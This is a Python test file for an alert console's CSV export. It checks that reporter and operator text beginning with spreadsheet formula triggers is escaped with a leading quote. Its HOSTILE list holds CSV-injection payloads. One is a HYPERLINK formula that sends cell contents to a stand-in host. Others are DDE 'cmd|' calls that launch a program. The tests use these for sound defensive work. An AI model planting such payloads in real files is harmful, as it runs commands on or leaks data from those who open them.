"""CSV exports: text from reporters and operators never opens as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from console import exports, indicators
from console.alert_query import names_from_catalogue
from console.exports import csv_cell, csv_text, write_csv
from console.handover import queue_csv
from console.models import Alert, AlertNote
from console.workflow import Limits

NOW = datetime(2026, 11, 28, 7, 0, tzinfo=timezone.utc)

# What people type into a 12345 report or an operator field, as spreadsheet injection
# write-ups (OWASP "CSV Injection") show it: formulas, DDE calls, links, tab/CR-led cells.
HOSTILE = [
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点击查看\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n第二行",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3.5", "+12", "-0", "1e-5", "42", "坪山大道积水", "", "a=b", "编号-1"])
def test_numbers_and_plain_text_unchanged(text: str) -> None:
    assert csv_cell(text) == text


def test_none_is_empty_and_other_values_are_text() -> None:
    assert csv_cell(None) == "" and csv_cell(-2) == "-2" and csv_cell(3.5) == "3.5"


def _alert(**kw: Any) -> Alert:
    created = NOW - timedelta(minutes=10)
    base: dict[str, Any] = dict(
        id="PS0000001", rev=1, level="orange", status="acknowledged", source="hotline_12345",
        category="waterlogging", title="坪山大道积水", description="市民来电反映积水", street="maluan",
        community=None, reporter_phone="13812345678", created_at=created, updated_at=created,
        timeline=(AlertNote(ts=created, actor="12345", action="create", text="事件上报"),))
    base.update(kw)
    return Alert(**base)


def test_queue_csv_escapes_reporter_and_operator_fields() -> None:
    alerts = [_alert(id=f"PS000000{n}", title=text, description=HOSTILE[-1 - n], acknowledged_by=HOSTILE[n])
              for n, text in enumerate(HOSTILE)]
    text = queue_csv(alerts, names_from_catalogue(), Limits.from_catalogue(), NOW)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    title, description, acked = rows[0].index("标题"), rows[0].index("描述"), rows[0].index("签收人")
    for n, row in enumerate(rows[1:]):
        for col in (title, description, acked):
            assert row[col].startswith("'"), (n, col, row[col])
        assert row[title] == "'" + HOSTILE[n]  # the text itself is kept, only marked as text
        assert row[acked] == "'" + HOSTILE[n]
    assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for row in rows for cell in row)


def test_indicator_csv_keeps_negative_numbers_and_escapes_names() -> None:
    text = indicators.series_csv("temp", "=气温", "℃", [(NOW.timestamp(), -3.5)], {"@马峦": -1.0})
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'=气温" and rows[1][3] == "-3.5"
    assert rows[2][3] == "-1" and rows[2][5] == "'@马峦"


def test_written_file_reads_back_with_the_quotes(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "清单", csv_text([["标题"], [HOSTILE[0]], [HOSTILE[4]]]))
    assert path.name == "清单.csv"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows == [["标题"], ["'" + HOSTILE[0]], ["'" + HOSTILE[4]]]
